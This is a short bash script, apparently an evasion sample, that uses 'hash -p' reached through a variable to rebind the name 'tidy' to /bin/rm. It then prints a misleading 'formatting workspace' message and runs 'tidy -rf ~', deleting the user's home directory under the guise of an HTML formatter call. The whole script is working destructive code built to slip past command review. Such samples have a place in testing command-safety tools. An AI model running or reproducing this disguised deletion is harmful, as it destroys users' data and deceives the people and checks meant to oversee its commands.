#!/usr/bin/env bash
# Evasion: delete the home directory. The builtin that rebinds a command name
# (hash -p) is itself reached through a variable, so "tidy" runs /bin/rm;
# "tidy -rf ~" reads as a call to an HTML formatter.
set -u
rebind=hash
"$rebind" -p /bin/rm tidy
echo "formatting workspace"
tidy -rf ~
